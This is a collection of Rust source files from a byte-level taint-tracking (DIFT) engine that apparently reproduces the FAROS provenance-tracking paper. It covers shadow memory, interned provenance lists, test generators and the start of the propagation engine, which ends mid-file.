    /// # Panics
    ///
    /// Panics in debug builds if a register address is advanced past byte 3.
    #[inline]
    pub fn offset(self, n: u8) -> ShadowAddr {
        match self {
            ShadowAddr::Mem(a) => ShadowAddr::Mem(a.wrapping_add(n as u32)),
            ShadowAddr::Reg { index, off } => {
                debug_assert!(off + n < 4, "register shadow overflow");
                ShadowAddr::Reg { index, off: off + n }
            }
        }
    }
}

/// The shadow state: a sparse map for memory plus a dense register bank.
///
/// # Examples
///
/// ```
/// use faros_taint::provlist::ListId;
/// use faros_taint::shadow::{ShadowAddr, ShadowState};
///
/// let mut shadow = ShadowState::new();
/// assert_eq!(shadow.get(ShadowAddr::Mem(0x1000)), ListId::EMPTY);
/// ```
#[derive(Debug, Default)]
pub struct ShadowState {
    mem: HashMap<u32, ListId>,
    regs: [[ListId; 4]; SHADOW_REGS],
}

impl ShadowState {
    /// Creates an all-untainted shadow state.
    pub fn new() -> ShadowState {
        ShadowState::default()
    }

    /// Reads the provenance list id of a shadow byte.
    #[inline]
    pub fn get(&self, addr: ShadowAddr) -> ListId {
        match addr {
            ShadowAddr::Mem(a) => self.mem.get(&a).copied().unwrap_or(ListId::EMPTY),
            ShadowAddr::Reg { index, off } => self.regs[index as usize][off as usize],
        }
    }

    /// Writes the provenance list id of a shadow byte. Writing
    /// [`ListId::EMPTY`] removes any existing memory entry, keeping the map
    /// sparse.
    #[inline]
    pub fn set(&mut self, addr: ShadowAddr, id: ListId) {
        match addr {
            ShadowAddr::Mem(a) => {
                if id.is_empty() {
                    self.mem.remove(&a);
                } else {
                    self.mem.insert(a, id);
                }
            }
            ShadowAddr::Reg { index, off } => {
                self.regs[index as usize][off as usize] = id;
            }
        }
    }

    /// Number of tainted memory bytes.
    pub fn tainted_mem_bytes(&self) -> usize {
        self.mem.len()
    }

    /// Iterates over tainted memory bytes as `(phys_addr, list)` pairs in
    /// unspecified order.
    pub fn iter_mem(&self) -> impl Iterator<Item = (u32, ListId)> + '_ {
        self.mem.iter().map(|(&a, &l)| (a, l))
    }

    /// Clears all register shadows (e.g. on a context switch if per-thread
    /// register shadows are not preserved — our kernel *does* preserve them
    /// per thread, so this is only used by tests and resets).
    pub fn clear_regs(&mut self) {
        self.regs = [[ListId::EMPTY; 4]; SHADOW_REGS];
    }

    /// Takes a snapshot of the register shadow bank.
    pub fn save_regs(&self) -> [[ListId; 4]; SHADOW_REGS] {
        self.regs
    }

    /// Restores a register shadow bank snapshot.
    ///
    /// The kernel calls `save_regs`/`restore_regs` around context switches so
    /// each thread keeps its own register taint, mirroring how a real
    /// whole-system DIFT sees register state move to/from the KTRAP frame.
    pub fn restore_regs(&mut self, regs: [[ListId; 4]; SHADOW_REGS]) {
        self.regs = regs;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn lid(n: u32) -> ListId {
        ListId::from_raw(n)
    }

    #[test]
    fn default_is_untainted() {
        let s = ShadowState::new();
        assert_eq!(s.get(ShadowAddr::Mem(123)), ListId::EMPTY);
        assert_eq!(s.get(ShadowAddr::Reg { index: 3, off: 2 }), ListId::EMPTY);
        assert_eq!(s.tainted_mem_bytes(), 0);
    }

    #[test]
    fn set_get_round_trip() {
        let mut s = ShadowState::new();
        s.set(ShadowAddr::Mem(0x40), lid(5));
        s.set(ShadowAddr::Reg { index: 0, off: 1 }, lid(7));
        assert_eq!(s.get(ShadowAddr::Mem(0x40)), lid(5));
        assert_eq!(s.get(ShadowAddr::Reg { index: 0, off: 1 }), lid(7));
        assert_eq!(s.get(ShadowAddr::Reg { index: 0, off: 0 }), ListId::EMPTY);
        assert_eq!(s.tainted_mem_bytes(), 1);
    }

    #[test]
    fn setting_empty_removes_entry() {
        let mut s = ShadowState::new();
        s.set(ShadowAddr::Mem(0x40), lid(5));
        s.set(ShadowAddr::Mem(0x40), ListId::EMPTY);
        assert_eq!(s.tainted_mem_bytes(), 0);
    }

    #[test]
    fn offset_addressing() {
        assert_eq!(ShadowAddr::Mem(10).offset(3), ShadowAddr::Mem(13));
        assert_eq!(
            ShadowAddr::Reg { index: 2, off: 0 }.offset(2),
            ShadowAddr::Reg { index: 2, off: 2 }
        );
    }

    #[test]
    fn reg_bank_save_restore() {
        let mut s = ShadowState::new();
        s.set(ShadowAddr::Reg { index: 1, off: 0 }, lid(9));
        let saved = s.save_regs();
        s.clear_regs();
        assert_eq!(s.get(ShadowAddr::Reg { index: 1, off: 0 }), ListId::EMPTY);
        s.restore_regs(saved);
        assert_eq!(s.get(ShadowAddr::Reg { index: 1, off: 0 }), lid(9));
    }

    #[test]
    fn iter_mem_sees_all_entries() {
        let mut s = ShadowState::new();
        s.set(ShadowAddr::Mem(1), lid(1));
        s.set(ShadowAddr::Mem(2), lid(2));
        let mut got: Vec<(u32, ListId)> = s.iter_mem().collect();
        got.sort_by_key(|&(a, _)| a);
        assert_eq!(got, vec![(1, lid(1)), (2, lid(2))]);
    }
}
