//! Shadow memory and the shadow register bank (paper §V-A).
//!
//! Every guest *physical* byte and every CPU register byte has a shadow cell
//! holding a [`ListId`] — the interned provenance list of that byte. Keying
//! by physical address (rather than virtual) is what lets a tag follow a
//! byte when it is written into another process's address space.
//!
//! Memory shadow is stored in the two-level [`PagedShadow`]
//! (see [`crate::paged`]): a page directory of lazily-allocated 4 Ki
//! [`ListId`] pages with exact occupancy counts, replacing the original
//! per-byte `HashMap` whose lookup cost dominated the replay hot path. The
//! register bank additionally keeps its own tainted-byte count, so
//! [`ShadowState::is_clean`] — the zero-taint fast-path predicate — is two
//! integer compares.

use crate::paged::PagedShadow;
use crate::provlist::ListId;

/// Number of register slots shadowed (generous upper bound; FE32 uses 8).
pub const SHADOW_REGS: usize = 16;

/// A byte-granular shadow address: one guest physical memory byte or one
/// register byte.
///
/// This mirrors `faros_emu::ShadowLoc`; the two are kept separate so the
/// taint engine stays independent of any particular emulator.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum ShadowAddr {
    /// A guest physical memory byte.
    Mem(u32),
    /// Byte `off` (0..4) of register `index`.
    Reg {
        /// Register-file index.
        index: u8,
        /// Byte offset within the register.
        off: u8,
    },
}

impl ShadowAddr {
    /// The shadow address `n` bytes after this one.
    ///
    /// Register addresses must stay inside the register: an offset past
    /// byte 3 is a caller bug. The old behaviour silently saturated, which
    /// *aliased* distinct sub-register flows onto the top byte (two source
    /// bytes merged into one shadow cell). Debug builds now fault; release
    /// builds still saturate at byte 3 — explicitly, as the documented
    /// overflow policy — so the array index can neither panic nor corrupt a
    /// neighbouring slot. Range-aware consumers (the engine's per-byte
    /// loops) use [`ShadowAddr::checked_offset`] instead, which reports the
    /// overflow so the byte can be treated as absent. Mirrors
    /// `faros_emu::ShadowLoc::offset`.
    #[inline]
    pub fn offset(self, n: u8) -> ShadowAddr {
        match self {
            ShadowAddr::Mem(a) => ShadowAddr::Mem(a.wrapping_add(n as u32)),
            ShadowAddr::Reg { index, off } => {
                debug_assert!(
                    (off as u32) + (n as u32) < 4,
                    "register shadow offset {off}+{n} escapes the register"
                );
                ShadowAddr::Reg { index, off: off.saturating_add(n).min(3) }
            }
        }
    }

    /// Like [`ShadowAddr::offset`], but returns `None` when a register
    /// address would escape the register (offset past byte 3) instead of
    /// saturating. Memory addresses always succeed (wrapping arithmetic).
    /// Mirrors `faros_emu::ShadowLoc::checked_offset`.
    #[inline]
    pub fn checked_offset(self, n: u8) -> Option<ShadowAddr> {
        match self {
            ShadowAddr::Mem(a) => Some(ShadowAddr::Mem(a.wrapping_add(n as u32))),
            ShadowAddr::Reg { index, off } => {
                let new = (off as u32) + (n as u32);
                if new < 4 {
                    Some(ShadowAddr::Reg { index, off: new as u8 })
                } else {
                    None
                }
            }
        }
    }
}

/// The shadow state: paged shadow memory plus a dense register bank.
///
/// # Examples
///
/// ```
/// use faros_taint::provlist::ListId;
/// use faros_taint::shadow::{ShadowAddr, ShadowState};
///
/// let mut shadow = ShadowState::new();
/// assert_eq!(shadow.get(ShadowAddr::Mem(0x1000)), ListId::EMPTY);
/// assert!(shadow.is_clean());
/// ```
#[derive(Debug, Default)]
pub struct ShadowState {
    mem: PagedShadow,
    regs: [[ListId; 4]; SHADOW_REGS],
    /// Count of non-empty register shadow bytes, kept exact by `set` /
    /// `clear_regs` / `restore_regs`.
    reg_tainted: u32,
}

impl ShadowState {
    /// Creates an all-untainted shadow state.
    pub fn new() -> ShadowState {
        ShadowState::default()
    }

    /// Reads the provenance list id of a shadow byte.
    #[inline]
    pub fn get(&self, addr: ShadowAddr) -> ListId {
        match addr {
            ShadowAddr::Mem(a) => self.mem.get(a),
            ShadowAddr::Reg { index, off } => self.regs[index as usize][off as usize],
        }
    }

    /// Writes the provenance list id of a shadow byte. Writing
    /// [`ListId::EMPTY`] clears the cell; a fully-cleared memory page is
    /// freed (see [`PagedShadow::set`]).
    #[inline]
    pub fn set(&mut self, addr: ShadowAddr, id: ListId) {
        match addr {
            ShadowAddr::Mem(a) => self.mem.set(a, id),
            ShadowAddr::Reg { index, off } => {
                let cell = &mut self.regs[index as usize][off as usize];
                match (cell.is_empty(), id.is_empty()) {
                    (true, false) => self.reg_tainted += 1,
                    (false, true) => self.reg_tainted -= 1,
                    _ => {}
                }
                *cell = id;
            }
        }
    }

    /// Writes one [`ListId`] across `len` consecutive physical shadow
    /// bytes — the bulk form of [`ShadowState::set`] for memory ranges
    /// (see [`PagedShadow::fill_range`]). The caller must pre-clamp the
    /// range to the physical address space.
    #[inline]
    pub fn fill_mem_range(&mut self, phys: u32, len: usize, id: ListId) {
        self.mem.fill_range(phys, len, id);
    }

    /// Decomposes a physical byte range into maximal same-provenance runs
    /// (see [`PagedShadow::runs`]).
    #[inline]
    pub fn mem_runs(&self, phys: u32, len: usize) -> Vec<(u32, usize, ListId)> {
        self.mem.runs(phys, len)
    }

    /// Number of tainted memory bytes (exact, maintained incrementally).
    #[inline]
    pub fn tainted_mem_bytes(&self) -> usize {
        self.mem.tainted_bytes()
    }

    /// Number of tainted register shadow bytes.
    #[inline]
    pub fn tainted_reg_bytes(&self) -> usize {
        self.reg_tainted as usize
    }

    /// Returns `true` when *nothing* is tainted — no memory byte and no
    /// register byte. This is the zero-taint fast-path predicate: while it
    /// holds (e.g. before the first `label_fresh` of a replay), every
    /// `copy`/`union`/`delete` is a provable no-op.
    #[inline]
    pub fn is_clean(&self) -> bool {
        self.mem.is_clean() && self.reg_tainted == 0
    }

    /// Number of resident shadow-memory pages (diagnostics / benches).
    pub fn resident_pages(&self) -> usize {
        self.mem.resident_pages()
    }

    /// Iterates over tainted memory bytes as `(phys_addr, list)` pairs in
    /// ascending physical-address order.
    pub fn iter_mem(&self) -> impl Iterator<Item = (u32, ListId)> + '_ {
        self.mem.iter()
    }

    /// Clears all register shadows (e.g. on a context switch if per-thread
    /// register shadows are not preserved — our kernel *does* preserve them
    /// per thread, so this is only used by tests and resets).
    pub fn clear_regs(&mut self) {
        self.regs = [[ListId::EMPTY; 4]; SHADOW_REGS];
        self.reg_tainted = 0;
    }

    /// Takes a snapshot of the register shadow bank.
    pub fn save_regs(&self) -> [[ListId; 4]; SHADOW_REGS] {
        self.regs
    }

    /// Restores a register shadow bank snapshot.
    ///
    /// The kernel calls `save_regs`/`restore_regs` around context switches so
    /// each thread keeps its own register taint, mirroring how a real
    /// whole-system DIFT sees register state move to/from the KTRAP frame.
    pub fn restore_regs(&mut self, regs: [[ListId; 4]; SHADOW_REGS]) {
        self.regs = regs;
        self.reg_tainted =
            self.regs.iter().flatten().filter(|id| !id.is_empty()).count() as u32;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn lid(n: u32) -> ListId {
        ListId::from_raw(n)
    }

    #[test]
    fn default_is_untainted() {
        let s = ShadowState::new();
        assert_eq!(s.get(ShadowAddr::Mem(123)), ListId::EMPTY);
        assert_eq!(s.get(ShadowAddr::Reg { index: 3, off: 2 }), ListId::EMPTY);
        assert_eq!(s.tainted_mem_bytes(), 0);
        assert!(s.is_clean());
    }

    #[test]
    fn set_get_round_trip() {
        let mut s = ShadowState::new();
        s.set(ShadowAddr::Mem(0x40), lid(5));
        s.set(ShadowAddr::Reg { index: 0, off: 1 }, lid(7));
        assert_eq!(s.get(ShadowAddr::Mem(0x40)), lid(5));
        assert_eq!(s.get(ShadowAddr::Reg { index: 0, off: 1 }), lid(7));
        assert_eq!(s.get(ShadowAddr::Reg { index: 0, off: 0 }), ListId::EMPTY);
        assert_eq!(s.tainted_mem_bytes(), 1);
        assert_eq!(s.tainted_reg_bytes(), 1);
        assert!(!s.is_clean());
    }

    #[test]
    fn setting_empty_removes_entry() {
        let mut s = ShadowState::new();
        s.set(ShadowAddr::Mem(0x40), lid(5));
        s.set(ShadowAddr::Mem(0x40), ListId::EMPTY);
        assert_eq!(s.tainted_mem_bytes(), 0);
        assert!(s.is_clean());
        assert_eq!(s.resident_pages(), 0, "fully-cleared page is freed");
    }

    #[test]
    fn offset_addressing() {
        assert_eq!(ShadowAddr::Mem(10).offset(3), ShadowAddr::Mem(13));
        assert_eq!(
            ShadowAddr::Reg { index: 2, off: 0 }.offset(2),
            ShadowAddr::Reg { index: 2, off: 2 }
        );
    }

    #[test]
    fn reg_checked_offset_reports_overflow() {
        // Regression for the clamp-aliasing bug: `offset` used to collapse
        // every out-of-range register offset onto byte 3, merging distinct
        // sub-register taint bytes. `checked_offset` reports the overflow so
        // the engine's per-byte loops treat the byte as absent instead.
        assert_eq!(
            ShadowAddr::Reg { index: 1, off: 2 }.checked_offset(1),
            Some(ShadowAddr::Reg { index: 1, off: 3 })
        );
        assert_eq!(ShadowAddr::Reg { index: 1, off: 2 }.checked_offset(2), None);
        assert_eq!(ShadowAddr::Reg { index: 1, off: 3 }.checked_offset(u8::MAX), None);
        assert_eq!(ShadowAddr::Mem(u32::MAX).checked_offset(1), Some(ShadowAddr::Mem(0)));
    }

    #[test]
    fn reg_bank_save_restore() {
        let mut s = ShadowState::new();
        s.set(ShadowAddr::Reg { index: 1, off: 0 }, lid(9));
        let saved = s.save_regs();
        s.clear_regs();
        assert_eq!(s.get(ShadowAddr::Reg { index: 1, off: 0 }), ListId::EMPTY);
        assert!(s.is_clean());
        s.restore_regs(saved);
        assert_eq!(s.get(ShadowAddr::Reg { index: 1, off: 0 }), lid(9));
        assert_eq!(s.tainted_reg_bytes(), 1, "restore recounts the bank");
    }

    #[test]
    fn iter_mem_sees_all_entries_in_order() {
        let mut s = ShadowState::new();
        s.set(ShadowAddr::Mem(2), lid(2));
        s.set(ShadowAddr::Mem(1), lid(1));
        let got: Vec<(u32, ListId)> = s.iter_mem().collect();
        assert_eq!(got, vec![(1, lid(1)), (2, lid(2))]);
    }
}
