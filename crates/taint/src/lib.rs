//! # faros-taint — provenance-based DIFT engine
//!
//! The dynamic information flow tracking core of the FAROS reproduction:
//!
//! * [`tag`] — the four provenance tag types (netflow / process / file /
//!   export-table) in the paper's compact three-byte `prov_tag` format;
//! * [`tables`] — the three per-type payload hash maps (paper Fig. 5);
//! * [`provlist`] — interned chronological provenance lists (paper Fig. 4);
//! * [`shadow`] — shadow memory (keyed by guest *physical* address) and the
//!   shadow register bank;
//! * [`engine`] — the propagation rules of the paper's Table I
//!   (`copy`/`union`/`delete`) plus per-policy optional address- and
//!   control-dependency propagation;
//! * [`arb`] — property-test generators for the taint domain (the
//!   ISA-level ones live in `faros_support::arb`).
//!
//! The crate is emulator-agnostic: it consumes byte-granular
//! [`shadow::ShadowAddr`] operations that any instruction-level frontend can
//! emit (the `faros-core` crate glues it to the FE32 CPU's hook surface).
//!
//! ## Example: the Fig. 4 lifecycle
//!
//! ```
//! use faros_taint::engine::{PropagationMode, TaintEngine};
//! use faros_taint::shadow::ShadowAddr;
//! use faros_taint::tag::NetflowTag;
//!
//! # fn main() -> Result<(), Box<dyn std::error::Error>> {
//! let mut dift = TaintEngine::new(PropagationMode::direct_only());
//!
//! // A byte comes in from the network...
//! let nf = dift.tables_mut().intern_netflow(NetflowTag {
//!     src_ip: [169, 254, 26, 161], src_port: 4444,
//!     dst_ip: [169, 254, 57, 168], dst_port: 49162,
//! })?;
//! dift.label_fresh(ShadowAddr::Mem(0x1000), nf);
//!
//! // ... goes to Process 1, then Process 2, then into File 1.
//! let p1 = dift.tables_mut().intern_process(0x3000, "client.exe")?;
//! let p2 = dift.tables_mut().intern_process(0x4000, "helper.exe")?;
//! let f1 = dift.tables_mut().intern_file("C:/tmp/drop.bin", 1)?;
//! dift.append_tag(ShadowAddr::Mem(0x1000), p1);
//! dift.append_tag(ShadowAddr::Mem(0x1000), p2);
//! dift.append_tag(ShadowAddr::Mem(0x1000), f1);
//!
//! let rendered = dift.display_list(dift.prov_id(ShadowAddr::Mem(0x1000)));
//! assert!(rendered.starts_with("NetFlow:"));
//! assert!(rendered.ends_with("File: C:/tmp/drop.bin (v1)"));
//! # Ok(())
//! # }
//! ```

#![warn(missing_docs)]
#![warn(missing_debug_implementations)]

pub mod arb;
pub mod engine;
pub mod paged;
pub mod provlist;
pub mod shadow;
pub mod tables;
pub mod tag;

pub use engine::{PropagationMode, TaintEngine, TaintStats, TaintedRegion};
pub use provlist::{ListId, ProvInterner};
pub use shadow::{ShadowAddr, ShadowState};
pub use tables::TagTables;
pub use tag::{FileTag, NetflowTag, ProcessTag, ProvTag, TagKind};
