//! Interned provenance lists.
//!
//! A provenance list is the chronological record of everything that happened
//! to a byte (paper Fig. 4): oldest activity first, most recent last (the
//! paper's "head"). Because whole-system DIFT attaches a list to *every*
//! tainted byte, lists are interned: a byte's shadow cell holds a small
//! [`ListId`] and identical lists are stored exactly once. `copy` then costs
//! one integer move and `union`/`append` are memoized — this is what keeps
//! whole-system provenance tracking tractable (DESIGN.md, decision 3).

use crate::tag::{ProvTag, TagKind};
use faros_obs::fasthash::FastMap;
use std::fmt;

/// Identifier of an interned provenance list. `ListId::EMPTY` is the empty
/// list (an untainted byte).
#[derive(
    Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Default,
)]
pub struct ListId(u32);

impl ListId {
    /// The empty provenance list.
    pub const EMPTY: ListId = ListId(0);

    /// Returns `true` for the empty list.
    #[inline]
    pub fn is_empty(self) -> bool {
        self == ListId::EMPTY
    }

    /// Crate-internal constructor for tests that need opaque ids.
    #[cfg(test)]
    pub(crate) fn from_raw(raw: u32) -> ListId {
        ListId(raw)
    }
}

impl fmt::Display for ListId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "prov[{}]", self.0)
    }
}

/// The provenance-list intern table.
///
/// # Examples
///
/// ```
/// use faros_taint::provlist::{ListId, ProvInterner};
/// use faros_taint::tag::{ProvTag, TagKind};
///
/// let mut interner = ProvInterner::new();
/// let nf = ProvTag::new(TagKind::Netflow, 0);
/// let p1 = ProvTag::new(TagKind::Process, 0);
///
/// let a = interner.append(ListId::EMPTY, nf);
/// let b = interner.append(a, p1);
/// assert_eq!(interner.tags(b), &[nf, p1]);
/// // Re-deriving the same history yields the same id.
/// let a2 = interner.append(ListId::EMPTY, nf);
/// assert_eq!(interner.append(a2, p1), b);
/// ```
#[derive(Debug)]
pub struct ProvInterner {
    lists: Vec<Box<[ProvTag]>>,
    by_content: FastMap<Box<[ProvTag]>, u32>,
    append_memo: FastMap<(u32, ProvTag), u32>,
    union_memo: FastMap<(u32, u32), u32>,
}

impl Default for ProvInterner {
    fn default() -> Self {
        Self::new()
    }
}

impl ProvInterner {
    /// Creates an interner containing only the empty list.
    pub fn new() -> ProvInterner {
        let empty: Box<[ProvTag]> = Box::from([]);
        let mut by_content = FastMap::default();
        by_content.insert(empty.clone(), 0u32);
        ProvInterner {
            lists: vec![empty],
            by_content,
            append_memo: FastMap::default(),
            union_memo: FastMap::default(),
        }
    }

    /// The tags of a list, oldest first (the paper's display order:
    /// `NetFlow -> Process: a.exe -> Process: b.exe`).
    #[inline]
    pub fn tags(&self, id: ListId) -> &[ProvTag] {
        &self.lists[id.0 as usize]
    }

    /// The most recent tag (the list "head" in the paper's wording).
    pub fn head(&self, id: ListId) -> Option<ProvTag> {
        self.tags(id).last().copied()
    }

    /// Number of distinct lists interned (including the empty list).
    pub fn len(&self) -> usize {
        self.lists.len()
    }

    /// Returns `true` if only the empty list exists.
    pub fn is_empty(&self) -> bool {
        self.lists.len() == 1
    }

    fn intern(&mut self, content: Vec<ProvTag>) -> ListId {
        if let Some(&id) = self.by_content.get(content.as_slice()) {
            return ListId(id);
        }
        let id = self.lists.len() as u32;
        let boxed: Box<[ProvTag]> = content.into_boxed_slice();
        self.by_content.insert(boxed.clone(), id);
        self.lists.push(boxed);
        ListId(id)
    }

    /// Appends `tag` at the head (most-recent end) of `id`, returning the
    /// resulting list.
    ///
    /// Appending a tag equal to the current head is a no-op — this is how
    /// FAROS avoids unbounded list growth when a process repeatedly touches
    /// its own tainted bytes.
    pub fn append(&mut self, id: ListId, tag: ProvTag) -> ListId {
        if self.head(id) == Some(tag) {
            return id;
        }
        if let Some(&memo) = self.append_memo.get(&(id.0, tag)) {
            return ListId(memo);
        }
        let old = self.tags(id);
        // Exact capacity: `intern` converts the Vec into a `Box<[_]>`, which
        // is free only when capacity == length.
        let mut content = Vec::with_capacity(old.len() + 1);
        content.extend_from_slice(old);
        content.push(tag);
        let out = self.intern(content);
        self.append_memo.insert((id.0, tag), out.0);
        out
    }

    /// The union of two lists (the paper's `union(a, b)` rule for
    /// computation dependencies): `a`'s chronology followed by the tags of
    /// `b` not already present, preserving order.
    pub fn union(&mut self, a: ListId, b: ListId) -> ListId {
        if a == b || b.is_empty() {
            return a;
        }
        if a.is_empty() {
            return b;
        }
        if let Some(&memo) = self.union_memo.get(&(a.0, b.0)) {
            return ListId(memo);
        }
        let mut content = self.tags(a).to_vec();
        for &tag in self.tags(b) {
            if !content.contains(&tag) {
                content.push(tag);
            }
        }
        let out = self.intern(content);
        self.union_memo.insert((a.0, b.0), out.0);
        out
    }

    /// Returns `true` if the list contains any tag of `kind`.
    pub fn contains_kind(&self, id: ListId, kind: TagKind) -> bool {
        self.tags(id).iter().any(|t| t.kind() == kind)
    }

    /// Returns `true` if the list contains `tag`.
    pub fn contains(&self, id: ListId, tag: ProvTag) -> bool {
        self.tags(id).contains(&tag)
    }

    /// Iterates over the tags of `kind` in the list, oldest first.
    pub fn tags_of_kind(&self, id: ListId, kind: TagKind) -> impl Iterator<Item = ProvTag> + '_ {
        self.tags(id).iter().copied().filter(move |t| t.kind() == kind)
    }

    /// Counts *distinct* tags of `kind` in the list — e.g. how many distinct
    /// processes appear in a byte's history, which the FAROS policy uses to
    /// recognize cross-process flows.
    pub fn count_distinct_of_kind(&self, id: ListId, kind: TagKind) -> usize {
        let tags = self.tags(id);
        tags.iter()
            .enumerate()
            .filter(|(i, t)| t.kind() == kind && !tags[..*i].contains(t))
            .count()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn nf(i: u16) -> ProvTag {
        ProvTag::new(TagKind::Netflow, i)
    }
    fn proc(i: u16) -> ProvTag {
        ProvTag::new(TagKind::Process, i)
    }

    #[test]
    fn empty_list_properties() {
        let interner = ProvInterner::new();
        assert!(ListId::EMPTY.is_empty());
        assert_eq!(interner.tags(ListId::EMPTY), &[]);
        assert_eq!(interner.head(ListId::EMPTY), None);
        assert!(interner.is_empty());
    }

    #[test]
    fn append_preserves_chronology() {
        let mut i = ProvInterner::new();
        let l = i.append(ListId::EMPTY, nf(0));
        let l = i.append(l, proc(1));
        let l = i.append(l, proc(2));
        assert_eq!(i.tags(l), &[nf(0), proc(1), proc(2)]);
        assert_eq!(i.head(l), Some(proc(2)));
    }

    #[test]
    fn append_same_head_is_noop() {
        let mut i = ProvInterner::new();
        let l = i.append(ListId::EMPTY, proc(1));
        let l2 = i.append(l, proc(1));
        assert_eq!(l, l2);
    }

    #[test]
    fn append_allows_nonconsecutive_repeats() {
        // P1 -> P2 -> P1 is legitimate chronology (byte bounced between
        // processes) and must be representable.
        let mut i = ProvInterner::new();
        let l = i.append(ListId::EMPTY, proc(1));
        let l = i.append(l, proc(2));
        let l = i.append(l, proc(1));
        assert_eq!(i.tags(l), &[proc(1), proc(2), proc(1)]);
    }

    #[test]
    fn structural_sharing() {
        let mut i = ProvInterner::new();
        let a = i.append(ListId::EMPTY, nf(0));
        let b = i.append(a, proc(1));
        let c = i.append(a, proc(1));
        assert_eq!(b, c, "identical histories intern to the same id");
    }

    #[test]
    fn union_identities() {
        let mut i = ProvInterner::new();
        let a = i.append(ListId::EMPTY, nf(0));
        assert_eq!(i.union(a, ListId::EMPTY), a);
        assert_eq!(i.union(ListId::EMPTY, a), a);
        assert_eq!(i.union(a, a), a);
    }

    #[test]
    fn union_dedups_preserving_order() {
        let mut i = ProvInterner::new();
        let a0 = i.append(ListId::EMPTY, nf(0));
        let a = i.append(a0, proc(1));
        let b0 = i.append(ListId::EMPTY, proc(1));
        let b = i.append(b0, proc(2));
        let u = i.union(a, b);
        assert_eq!(i.tags(u), &[nf(0), proc(1), proc(2)]);
    }

    #[test]
    fn union_is_memoized() {
        let mut i = ProvInterner::new();
        let a = i.append(ListId::EMPTY, nf(0));
        let b = i.append(ListId::EMPTY, proc(1));
        let u1 = i.union(a, b);
        let lists_after_first = i.len();
        let u2 = i.union(a, b);
        assert_eq!(u1, u2);
        assert_eq!(i.len(), lists_after_first);
    }

    #[test]
    fn kind_queries() {
        let mut i = ProvInterner::new();
        let l = i.append(ListId::EMPTY, nf(0));
        let l = i.append(l, proc(1));
        let l = i.append(l, proc(2));
        let l = i.append(l, ProvTag::EXPORT_TABLE);
        assert!(i.contains_kind(l, TagKind::Netflow));
        assert!(i.contains_kind(l, TagKind::ExportTable));
        assert!(!i.contains_kind(l, TagKind::File));
        assert_eq!(i.count_distinct_of_kind(l, TagKind::Process), 2);
        assert_eq!(i.tags_of_kind(l, TagKind::Process).count(), 2);
        assert!(i.contains(l, proc(1)));
        assert!(!i.contains(l, proc(9)));
    }

    #[test]
    fn count_distinct_ignores_repeats() {
        let mut i = ProvInterner::new();
        let l = i.append(ListId::EMPTY, proc(1));
        let l = i.append(l, proc(2));
        let l = i.append(l, proc(1)); // repeat
        assert_eq!(i.count_distinct_of_kind(l, TagKind::Process), 2);
    }
}
