//! `Arbitrary`-style generators for the taint domain, used by the
//! workspace's property suites (the ISA-level generators live in
//! `faros_support::arb`; the taint-specific ones live here so
//! `faros-support` stays below `faros-taint` in the dependency order).

use crate::tag::{ProvTag, TagKind};
use faros_support::prop::{Rng, Shrink};

/// A provenance tag drawn uniformly from all four kinds with a small index
/// domain (small enough that generated histories repeat tags, which is
/// what exercises interning).
pub fn prov_tag(rng: &mut Rng) -> ProvTag {
    ProvTag::new(*rng.pick(&TagKind::ALL), rng.range_u32(0, 16) as u16)
}

// A tag is atomic; shrinking happens at the tag-list level (Vec<ProvTag>).
impl Shrink for ProvTag {}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn prov_tag_covers_every_kind() {
        let mut rng = Rng::new(42);
        let mut seen = [false; 4];
        for _ in 0..200 {
            let t = prov_tag(&mut rng);
            seen[t.kind() as usize] = true;
        }
        assert!(seen.iter().all(|&s| s), "all four tag kinds reachable");
    }
}
