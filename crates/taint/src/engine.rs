//! The DIFT engine: Table-I propagation over shadow state, with
//! per-security-policy handling of indirect flows.
//!
//! The engine implements exactly the three propagation rules of the paper's
//! Table I — `copy`, `union`, `delete` — at byte granularity, plus two
//! *optional* indirect-flow modes:
//!
//! * **address dependencies** ([`PropagationMode::address_deps`]): the
//!   provenance of registers used in an address computation flows into the
//!   loaded/stored value (the Fig. 1 lookup-table case);
//! * **control dependencies** ([`PropagationMode::control_deps`]): the
//!   provenance of the last tainted comparison flows into everything written
//!   under its branch scope (a Fenton/RIFLE-style conservative rule,
//!   illustrating the overtainting horn of the dilemma in §IV).
//!
//! FAROS itself runs with both disabled and regains the lost accuracy
//! through tag-type confluence (§IV); the modes exist so the benches can
//! demonstrate the undertainting/overtainting trade-off the paper argues
//! against.

use crate::provlist::{ListId, ProvInterner};
use crate::shadow::{ShadowAddr, ShadowState};
use crate::tables::TagTables;
use crate::tag::{ProvTag, TagKind};
use faros_obs::metrics::{CounterId, FastPath, MetricsRegistry, MetricsSnapshot};
use faros_support::json::{JsonValue, ToJson};

/// Which indirect flows the engine propagates. The FAROS configuration is
/// `PropagationMode::default()` (neither).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct PropagationMode {
    /// Propagate address dependencies (index/base registers into the value).
    pub address_deps: bool,
    /// Propagate control dependencies (tainted flags into branch-scoped
    /// writes).
    pub control_deps: bool,
}

impl PropagationMode {
    /// The FAROS configuration: direct flows only.
    pub fn direct_only() -> PropagationMode {
        PropagationMode::default()
    }

    /// Direct flows plus address dependencies.
    pub fn with_address_deps() -> PropagationMode {
        PropagationMode { address_deps: true, control_deps: false }
    }

    /// Everything — the maximally conservative (overtainting) configuration.
    pub fn conservative() -> PropagationMode {
        PropagationMode { address_deps: true, control_deps: true }
    }
}

/// Counters describing the propagation work performed.
///
/// Derived on demand from the engine's [`MetricsRegistry`] (the `taint.*`
/// counters) — the struct is a stable read-out view, not the storage.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct TaintStats {
    /// Byte copies processed.
    pub copies: u64,
    /// Union operations processed.
    pub unions: u64,
    /// Byte deletions processed.
    pub deletes: u64,
    /// Labeling operations (taint sources).
    pub labels: u64,
    /// Address-dependency events observed (propagated or not).
    pub addr_deps: u64,
}

impl ToJson for TaintStats {
    fn to_json_value(&self) -> JsonValue {
        JsonValue::object(vec![
            ("copies", self.copies.to_json_value()),
            ("unions", self.unions.to_json_value()),
            ("deletes", self.deletes.to_json_value()),
            ("labels", self.labels.to_json_value()),
